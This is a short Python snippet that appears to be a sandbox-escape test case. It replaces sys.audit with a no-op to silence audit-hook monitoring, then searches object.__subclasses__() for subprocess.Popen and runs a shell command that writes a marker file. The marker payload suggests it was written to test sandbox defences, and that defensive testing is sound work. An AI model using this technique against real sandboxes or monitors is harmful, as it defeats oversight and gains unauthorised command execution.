# subprocess.Popen among object's subclasses.
# breach: marker
import sys
sys.audit = lambda *arguments: None
import asyncio
for cls in object.__subclasses__():
    if cls.__name__ == "Popen":
        cls(["sh", "-c", f"echo > {MARKER_FILE}"]).wait()
